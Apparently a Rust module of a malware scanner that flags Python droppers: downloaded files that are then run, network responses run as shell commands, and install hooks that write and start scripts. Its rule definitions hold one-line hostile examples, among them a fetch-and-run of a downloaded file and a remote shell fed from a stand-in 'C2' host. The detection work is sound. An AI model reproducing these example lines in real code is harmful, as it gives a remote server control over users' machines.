//! Confirming a dropper by its data flow (see `pyflow`): a Python scope that runs the file
//! it downloaded, runs a response as a command line, or, at install time, starts a script
//! it wrote. A confirmed download run tags its function `runs-download`, so that the
//! function-level correlations can tell it from an updater that fetches one thing and
//! starts another.

use crate::pyblocks::LineInfo;
use crate::pyflow::{self, Ran, ScopeRun};
use crate::source::Role;
use palisade_core::{Category, Finding, RuleInfo, Severity};
use std::collections::{BTreeMap, BTreeSet};

pub static RUNS_DOWNLOAD: RuleInfo = RuleInfo {
    id: "download/runs-what-it-downloaded",
    category: Category::Download,
    severity: Severity::Critical,
    summary: "Python code downloads a file, writes it to disk and starts that same file as a program (or hands it to an interpreter).",
    why: "Fetch, write and run of the same bytes is a dropper: what runs is whatever the server sends, never what was reviewed. Honest installers that download something unpack or verify it; they rarely start it from the function that fetched it.",
    example: "r = requests.get(url); open(p, 'wb').write(r.content); subprocess.run([p])",
    attack: Some("T1105"),
};

pub static RUNS_RECEIVED_COMMAND: RuleInfo = RuleInfo {
    id: "execution/runs-received-command",
    category: Category::Execution,
    severity: Severity::Critical,
    summary: "Python code runs, as a command line, text it received from the network.",
    why: "A response run as a shell command is a remote shell: whoever controls the server decides what runs on the machine, whenever they like. Honest tools put fetched values (a version number) into commands they write themselves; they do not run the response.",
    example: "resp = requests.get(C2).text; subprocess.run(resp, shell=True)",
    attack: Some("T1059"),
};

pub static INSTALL_DROPS_AND_RUNS: RuleInfo = RuleInfo {
    id: "install/writes-and-runs-a-program",
    category: Category::InstallTime,
    severity: Severity::High,
    summary: "Install-time code writes a program or script to disk and starts it.",
    why: "A script kept in a string inside setup.py, written out at install time and started, runs code that is no file of the package: reviewers and scanners reading the package's files never see it as code. Builds compile and copy; they do not start programs they just wrote.",
    example: "open(APPDATA + '/x/run.cmd', 'w').write(SCRIPT); os.startfile(APPDATA + '/x/run.cmd')",
    attack: Some("T1059"),
};

/// Follows every scope that fetches, in a file that starts programs (or sets them to
/// start), and at install time every scope that writes files and starts programs; tags
/// the functions that run what they downloaded, and returns the gravest place found: a
/// download run before a written script started. `complete` says whether every scope
/// worth following was read through: only then does finding no run mean there is none.
pub(super) fn confirm(
    data: &[u8],
    lines: &[LineInfo],
    role: Role,
    file_tags: &BTreeSet<String>,
    functions: &mut BTreeMap<u32, BTreeSet<String>>,
    module_body: &BTreeSet<String>,
) -> Confirmed {
    // A scope that fetches may run what it got through another function of the file
    // (`runcommand(resp)`), so any process start in the file makes it worth following.
    let starts = |tags: &BTreeSet<String>| tags.contains("process") || tags.contains("persistence");
    // A bare `system(...)` after `from os import system` is seen only at file level.
    let file_starts = starts(file_tags) || starts(module_body) || functions.values().any(starts);
    // At install time, every file that starts programs: the rules see no write in a
    // temporary file written under an alias (`_t(delete=False).write(...)`); the flow
    // itself needs the write.
    let install = matches!(role, Role::Install | Role::Build) && starts(file_tags);
    let worth_following = |tags: &BTreeSet<String>| {
        (tags.contains("network") && file_starts)
            || (install && (tags.contains("file-write") || starts(tags)))
    };
    // The module body first: decoy functions must not crowd it out.
    let worth: Vec<Option<u32>> = (install || worth_following(module_body))
        .then_some(None)
        .into_iter()
        .chain(
            functions
                .iter()
                .filter(|(_, tags)| worth_following(tags))
                .map(|(&f, _)| Some(f)),
        )
        .collect();
    let mut complete = worth.len() <= MAX_SCOPES;
    let mut scopes: BTreeSet<Option<u32>> = worth.into_iter().take(MAX_SCOPES).collect();
    // A request through a client the module made (`_session.get(u)`) is not a network
    // call to the rules, which see the client's creation; the flow's own reading of
    // requests finds the functions that make one.
    let follow_fetchers = file_starts && file_tags.contains("network");
    if scopes.is_empty() && !follow_fetchers {
        // Nothing fetches in code the flow reads (a request in a class body, say):
        // the flow has no say.
        return Confirmed {
            found: None,
            complete: false,
        };
    }
    let facts = pyflow::file_facts(data, lines);
    if follow_fetchers {
        let fetchers = facts
            .function_names
            .iter()
            .filter(|(_, name)| facts.fetchers.contains(name))
            .map(|(&f, _)| Some(f));
        for scope in fetchers {
            if scopes.len() >= MAX_SCOPES {
                complete = false;
                break;
            }
            scopes.insert(scope);
        }
    }
    let runs = pyflow::find_runs(data, lines, &scopes, &facts);
    complete &= runs.complete;
    let mut gravest: Option<ScopeRun> = None;
    for (scope, found) in runs.found {
        if let (Ran::Download { .. }, Some(tags)) =
            (&found.ran, scope.and_then(|f| functions.get_mut(&f)))
        {
            tags.insert("runs-download".to_string());
        }
        if gravest
            .as_ref()
            .is_none_or(|g| found.ran.downloaded() && !g.ran.downloaded())
        {
            gravest = Some(found);
        }
    }
    Confirmed {
        found: gravest.filter(|g| install || g.ran.downloaded()),
        complete,
    }
}

/// What following a file's data flow found, and whether it read all it meant to.
pub(super) struct Confirmed {
    pub(super) found: Option<ScopeRun>,
    pub(super) complete: bool,
}

/// Scopes followed per file.
const MAX_SCOPES: usize = 64;

/// What correlation knows the finding means: a download run, a remote shell, or a
/// program started.
pub(super) fn tag(found: &ScopeRun) -> &'static str {
    match found.ran {
        Ran::Download { .. } => "download-exec",
        Ran::Command { .. } => "remote-shell",
        Ran::WrittenScript { .. } => "process",
    }
}

/// The finding for a confirmed dropper or remote shell, naming the lines that make it one.
pub(super) fn finding(found: &ScopeRun, role: Role) -> Finding {
    let role_name = role.name();
    let run_line = found.run_line;
    match &found.ran {
        Ran::Download {
            path,
            fetched_line,
            written_line,
        } => RUNS_DOWNLOAD.finding(format!(
            "downloaded at line {fetched_line}, written to `{path}` at line {written_line}, started at line {run_line} [{role_name}]"
        )),
        Ran::Command { fetched_line } => RUNS_RECEIVED_COMMAND.finding(format!(
            "received from the network at line {fetched_line}, run as a command at line {run_line} [{role_name}]"
        )),
        // Only reported at install time (see `confirm`): tools write and run helper
        // scripts all the time; an install hook that does runs code that is no file of
        // the package.
        Ran::WrittenScript { path, written_line } => INSTALL_DROPS_AND_RUNS.finding(format!(
            "`{path}` written at line {written_line} and started at line {run_line} [{role_name}]"
        )),
    }
}
